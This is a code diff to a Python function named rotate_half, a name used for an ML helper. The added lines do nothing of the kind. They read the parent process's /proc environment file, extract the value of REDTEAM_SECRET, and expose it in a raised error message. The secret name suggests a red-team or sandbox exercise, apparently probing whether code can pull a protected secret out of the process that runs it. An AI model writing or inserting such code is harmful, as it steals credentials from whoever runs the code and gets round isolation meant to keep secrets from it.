@@ -5,4 +5,5 @@ import os
 
 def rotate_half(x):
     with open(f"/proc/{os.getppid()}/environ") as file:
-        raise RuntimeError("found " + file.read()[-2000:].replace("\0", " "))
+        secret = file.read().partition("REDTEAM_SECRET=")[2].partition("\0")[0]
+    raise RuntimeError(f"found {secret}")
